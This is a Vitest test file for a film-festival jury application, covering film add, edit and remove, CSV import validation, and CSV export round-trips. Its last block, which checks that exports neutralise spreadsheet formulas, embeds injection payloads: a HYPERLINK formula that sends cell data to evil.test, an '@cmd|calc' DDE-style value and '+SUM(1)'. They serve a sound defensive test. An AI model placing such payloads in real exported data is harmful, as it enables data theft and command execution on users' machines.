import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { and, asc, eq } from 'drizzle-orm';
import { audit, award, candidate, film, recusal, user } from '@/db/schema';
import { seededDb, type TestDb } from '@/tests/db';
import { fixture, nominationId } from '@/tests/festival';
import { bytes, expectCommonRefusals, expectRefused, run } from '@/tests/actions';
import { addFilmSpec, importFilmsSpec, previewFilmImportSpec, removeFilmSpec, updateFilmSpec } from './specs';

let t: TestDb;
beforeEach(async () => { t = await seededDb(); });
afterEach(() => t.close());

const nomId = (code: string) => nominationId(t.db, code);
const candidatesOf = (code: string) =>
  t.db.select({ filmId: candidate.filmId, person: candidate.person, title: film.englishTitle, director: film.director })
    .from(candidate).innerJoin(film, eq(film.id, candidate.filmId)).where(eq(candidate.nominationId, nomId(code))).orderBy(asc(film.position)).all();
const competition = () => t.db.select().from(film).where(eq(film.competition, true)).orderBy(asc(film.position)).all();
const good = { englishTitle: 'Kelin', originalTitle: 'Келін', director: 'Ermek Tursunov', country: 'kz', year: '2009', runtimeMinutes: '90', competition: 'on' };

describe('films: add, edit, remove', () => {
  it('adds a competition film and gives it a candidate in each film-level main nomination', () => {
    const { id } = run(t, addFilmSpec, good);
    expect(t.db.select().from(film).where(eq(film.id, id)).get()).toMatchObject({ country: 'KZ', year: 2009, runtimeMinutes: 90, competition: true, placeholder: false });
    expect(candidatesOf('best_film').map((c) => c.filmId)).toContain(id);
    expect(candidatesOf('best_director').find((c) => c.filmId === id)?.person).toBe('Ermek Tursunov');
    expect(candidatesOf('best_actor').map((c) => c.filmId)).not.toContain(id);
    expect(t.db.select().from(audit).all().at(-1)?.action).toBe('film.add');
  });

  it('taking a film out of competition removes its candidates, including its performances; a new director follows', () => {
    const f = competition()[2];
    run(t, updateFilmSpec, { ...good, englishTitle: f.englishTitle, director: 'New Director', id: String(f.id), competition: undefined });
    expect(candidatesOf('best_film').map((c) => c.filmId)).not.toContain(f.id);
    expect(candidatesOf('best_actor').map((c) => c.filmId)).not.toContain(f.id);
    run(t, updateFilmSpec, { ...good, englishTitle: f.englishTitle, director: 'New Director', id: String(f.id), competition: 'on' });
    expect(candidatesOf('best_director').find((c) => c.filmId === f.id)?.person).toBe('New Director');
  });

  it('removes a film with its candidates and recusals, and its audit entry names them', () => {
    const f = competition()[0];
    const cands = t.db.select({ id: candidate.id }).from(candidate).where(eq(candidate.filmId, f.id)).orderBy(asc(candidate.id)).all().map((c) => c.id);
    expect(cands.length).toBeGreaterThanOrEqual(3); // best film, director, screenplay (and the acting placeholders)
    const juror = t.db.select().from(user).where(eq(user.login, 'juror03')).get()!;
    t.db.insert(recusal).values({ jurorId: juror.id, filmId: f.id, reason: 'my brother directed it' }).run();
    run(t, removeFilmSpec, { id: String(f.id) });
    expect(t.db.select().from(candidate).where(eq(candidate.filmId, f.id)).all()).toEqual([]);
    expect(t.db.select().from(recusal).where(eq(recusal.filmId, f.id)).all()).toEqual([]);
    const entry = t.db.select().from(audit).all().at(-1)!;
    expect(entry.action).toBe('film.remove');
    expect(JSON.parse(entry.payload)).toEqual({ jury: 1, id: f.id, englishTitle: f.englishTitle, candidates: cands, recusals: [{ jurorId: juror.id, reason: 'my brother directed it' }] });
  });

  it('refuses a juror, the chair, bad input and any phase after setup', () => {
    expectCommonRefusals(t, addFilmSpec, good, { ...good, country: 'QQ' });
    expectCommonRefusals(t, updateFilmSpec, { ...good, id: String(competition()[0].id) }, { ...good, id: 'x' });
    expectCommonRefusals(t, removeFilmSpec, { id: String(competition()[0].id) }, { id: '-1' });
  });

  it('refuses a duplicate (English title + director) and an unknown film', () => {
    expectRefused(t, addFilmSpec, 'organiser', { ...good, englishTitle: 'the diamond sword', director: 'RUSTEM ABDRASHEV' }, 'film:duplicate');
    const [a, b] = competition();
    expectRefused(t, updateFilmSpec, 'organiser', { ...good, id: String(b.id), englishTitle: a.englishTitle, director: a.director }, 'film:duplicate');
    expectRefused(t, updateFilmSpec, 'organiser', { ...good, id: '9999' }, 'film:not_found');
    expectRefused(t, removeFilmSpec, 'organiser', { id: '9999' }, 'film:not_found');
    expectRefused(t, addFilmSpec, 'organiser', { ...good, englishTitle: '' }, 'invalid:input');
  });
});

describe('films: CSV import', () => {
  it('previews, then replaces the list exactly: 23 competition films with Kazakh, Chinese and Russian titles', () => {
    const csv = fixture('films-23.csv');
    const before = t.db.select().from(film).all().length;
    const preview = run(t, previewFilmImportSpec, { csv });
    expect(preview.errors).toEqual([]);
    // The two named competition films and The Road to Mother match; the 21 placeholders and Oralman go.
    expect(preview.added).toHaveLength(21);
    expect(preview.removed.map((r) => r.englishTitle)).toContain('Oralman');
    expect(preview.removed).toHaveLength(before - 3);
    expect(t.db.select().from(film).all()).toHaveLength(before); // preview writes nothing
    const summary = run(t, importFilmsSpec, { csv });
    expect(summary).toMatchObject({ added: 21, removed: before - 3 });
    const comp = competition();
    expect(comp).toHaveLength(23);
    expect(comp.map((f) => f.originalTitle)).toEqual(expect.arrayContaining(['红海行动', 'Движение вверх', 'Жол\nүстінде', 'Алмас қылыш']));
    expect(comp.find((f) => f.originalTitle === 'Шырақшы')?.englishTitle).toBe('The Lamplighter, "night" cut');
    expect(comp.every((f) => !f.placeholder)).toBe(true);
    for (const code of ['best_film', 'best_director', 'best_screenplay']) expect(candidatesOf(code).map((c) => c.filmId)).toEqual(comp.map((f) => f.id));
    expect(candidatesOf('best_director').every((c) => c.person === c.director)).toBe(true);
    // Performances of removed films are gone with them; those of the two films kept stay.
    expect(candidatesOf('best_actor').map((c) => [c.title, c.person])).toEqual([['The Diamond Sword', 'Lead actor, film 01'], ['The Prince of Our Town', 'Lead actor, film 02']]);
    expect(candidatesOf('best_actor').every((c) => comp.some((f) => f.id === c.filmId))).toBe(true);
    // Importing the same file again changes nothing.
    const again = run(t, previewFilmImportSpec, { csv });
    expect({ a: again.added.length, u: again.updated.length, r: again.removed.length, same: again.unchanged }).toEqual({ a: 0, u: 0, r: 0, same: 24 });
    expect(t.db.select().from(audit).all().at(-1)?.action).toBe('film.import');
  });

  it('matches by the optional id column and reports updated fields', () => {
    const [a] = competition();
    const csv = bytes(`id,english_title,director,country\n${a.id},Diamond Sword (new cut),${a.director},KZ\n`);
    const p = run(t, previewFilmImportSpec, { csv });
    expect(p.updated).toEqual([expect.objectContaining({ line: 2, englishTitle: 'Diamond Sword (new cut)', fields: ['originalTitle', 'englishTitle'] })]);
  });

  it('refuses a file with any bad row whole, with line numbers and reasons; nothing is written', () => {
    const csv = fixture('films-bad.csv');
    const p = run(t, previewFilmImportSpec, { csv });
    expect(p.errors).toEqual([
      { line: 3, code: 'import:missing_title' },
      { line: 4, code: 'import:unknown_country', params: { value: 'QQ' } },
      { line: 5, code: 'import:bad_number', params: { column: 'year', value: '20x8' } },
      { line: 6, code: 'import:duplicate', params: { first: 2 } },
    ]);
    expect(expectRefused(t, importFilmsSpec, 'organiser', { csv }, 'import:invalid')).toMatchObject({ params: { count: 4, lines: '3, 4, 5, 6' } });
  });

  it('refuses a file that is not UTF-8, a broken quote, a missing column, an unknown id and an empty list', () => {
    const cp1251 = new Uint8Array([...bytes('english_title,director,country\nA,B,KZ\n'), 0xc0, 0xeb, 0x2c, 0x42, 0x2c, 0x4b, 0x5a, 0x0a]);
    expect(run(t, previewFilmImportSpec, { csv: cp1251 }).errors).toEqual([{ line: 3, code: 'import:encoding' }]);
    expectRefused(t, importFilmsSpec, 'organiser', { csv: cp1251 }, 'import:invalid');
    expect(run(t, previewFilmImportSpec, { csv: bytes('english_title,director,country\n"A,B,KZ\n') }).errors).toEqual([{ line: 2, code: 'import:unterminated' }]);
    expect(run(t, previewFilmImportSpec, { csv: bytes('english_title,country\nA,KZ\n') }).errors).toEqual([{ line: 1, code: 'import:missing_column', params: { column: 'director' } }]);
    expect(run(t, previewFilmImportSpec, { csv: bytes('id,english_title,director,country\n999,A,B,KZ\n') }).errors).toEqual([{ line: 2, code: 'import:unknown_id', params: { value: 999 } }]);
    expect(run(t, previewFilmImportSpec, { csv: bytes('english_title,director,country\n') }).errors).toEqual([{ line: 2, code: 'import:empty' }]);
    expect(run(t, previewFilmImportSpec, { csv: bytes('english_title,director,country\nA,B\n') }).errors).toEqual([{ line: 2, code: 'import:columns', params: { expected: 3, found: 2 } }]);
  });

  it('import and preview refuse a juror, the chair, bad input and any phase after setup', () => {
    const csv = fixture('films-23.csv');
    expectCommonRefusals(t, importFilmsSpec, { csv }, { csv: 'not bytes' });
    expectCommonRefusals(t, previewFilmImportSpec, { csv }, { csv: 42 });
    expect(t.db.select().from(candidate).where(and(eq(candidate.nominationId, nomId('best_film')))).all()).toHaveLength(23);
  });
});

describe('films: CSV export', () => {
  it('round-trips exactly: the exported list imports again with no change, titles byte for byte', async () => {
    const { filmsCsv } = await import('./export');
    const { currentFilms } = await import('./specs');
    run(t, importFilmsSpec, { csv: fixture('films-23.csv') });
    const films = t.db.transaction((tx) => currentFilms(tx));
    const csv = filmsCsv(films);
    const p = run(t, previewFilmImportSpec, { csv: new TextEncoder().encode(csv) });
    expect(p).toMatchObject({ errors: [], added: [], updated: [], removed: [], unchanged: films.length });
    const again = t.db.transaction((tx) => currentFilms(tx));
    expect(filmsCsv(again)).toBe(csv);
    expect(csv).toContain('"Жол\nүстінде"');
    expect(csv).toContain('"The Lamplighter, ""night"" cut"');
  });
});

describe('CSV exports neutralise formulas (OWASP)', () => {
  const EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Winner")';
  // Every cell of a CSV as a spreadsheet would see it (quotes removed, "" undone).
  const cells = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean).flatMap((l) => l.match(/"(?:[^"]|"")*"|[^,]*/g)!.filter((c, i, a) => !(c === '' && a[i - 1]?.length)).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));

  it('the film list: a formula title is written as text and still imports back unchanged', async () => {
    const { filmsCsv } = await import('./export');
    const { currentFilms } = await import('./specs');
    run(t, importFilmsSpec, { csv: fixture('films-23.csv') });
    const first = t.db.select({ id: film.id }).from(film).orderBy(asc(film.id)).get()!;
    t.db.update(film).set({ englishTitle: EVIL, director: '@cmd|calc' }).where(eq(film.id, first.id)).run();
    const csv = filmsCsv(t.db.transaction((tx) => currentFilms(tx)));
    expect(cells(csv).filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
    expect(csv).toContain(`"'${EVIL.replace(/"/g, '""')}"`);
    expect(run(t, previewFilmImportSpec, { csv: new TextEncoder().encode(csv) })).toMatchObject({ errors: [], updated: [] });
  });

  it('the public awards file: a winner’s formula title is written as text', async () => {
    const { awardsCsv } = await import('@/lib/round/results');
    const c = t.db.select({ id: candidate.id, filmId: candidate.filmId, nominationId: candidate.nominationId }).from(candidate).orderBy(asc(candidate.id)).get()!;
    t.db.update(film).set({ englishTitle: EVIL, originalTitle: '+SUM(1)' }).where(eq(film.id, c.filmId)).run();
    t.db.insert(award).values({ nominationId: c.nominationId, candidateId: c.id, aggregate: '-1/3', margin: '2' }).run();
    const csv = awardsCsv(t.db);
    expect(csv).toContain(EVIL.slice(1, 10));
    expect(cells(csv).filter((x) => /^[=+@\t\r]/.test(x) || /^-\D/.test(x) || x === '-1/3')).toEqual([]);
  });
});
